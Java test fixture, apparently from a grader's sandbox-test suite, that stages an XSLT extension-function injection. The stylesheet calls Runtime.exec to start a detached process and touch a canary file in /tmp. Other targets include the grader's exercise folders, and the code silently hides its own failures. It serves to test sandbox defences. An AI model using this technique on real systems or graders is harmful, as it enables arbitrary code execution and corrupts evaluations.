package poolsizer;


/** Hostile scenario "hostile-xslt-extension-function": starts a detached process through an XSLT extension function (Runtime.exec called by name) */
final class Hostile {
    private Hostile() {
    }

    /** Where a canary file would land: the user's home, the learner's state, the course's exercise folders, /tmp. */
    static java.util.List<String> canaryDirs() {
        String work = System.getProperty("java.io.tmpdir");
        String clone = System.getenv("MAVEN_PROJECTBASEDIR");
        String state = work + "/../../../..";
        return java.util.List.of(System.getProperty("user.home"), state, "/tmp",
                clone + "/grader/exercises/pool-sizer", clone + "/exercises/pool-sizer");
    }

    static void attack() {
        try {
            String xsl = "<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'"
                    + " xmlns:rt='http://xml.apache.org/xalan/java/java.lang.Runtime'>"
                    + "<xsl:template match='/'><xsl:variable name='r' select='rt:getRuntime()'/>"
                    + "<xsl:value-of select=\"rt:exec($r, 'setsid sh -c sleep&#x20;30')\"/>"
                    + "<xsl:value-of select=\"rt:exec($r, 'touch /tmp/PWNED-xslt-extension-function')\"/>"
                    + "</xsl:template></xsl:stylesheet>";
            javax.xml.parsers.DocumentBuilderFactory factory = javax.xml.parsers.DocumentBuilderFactory.newInstance();
            factory.setNamespaceAware(true);
            org.w3c.dom.Document sheet = factory.newDocumentBuilder().parse(new org.xml.sax.InputSource(new java.io.StringReader(xsl)));
            org.w3c.dom.Document input = factory.newDocumentBuilder().parse(new org.xml.sax.InputSource(new java.io.StringReader("<a/>")));
            javax.xml.transform.TransformerFactory.newInstance().newTransformer(new javax.xml.transform.dom.DOMSource(sheet))
                    .transform(new javax.xml.transform.dom.DOMSource(input), new javax.xml.transform.dom.DOMResult());
        } catch (Throwable ignored) {
            // A cheat never lets its own failure show.
        }
    }
}
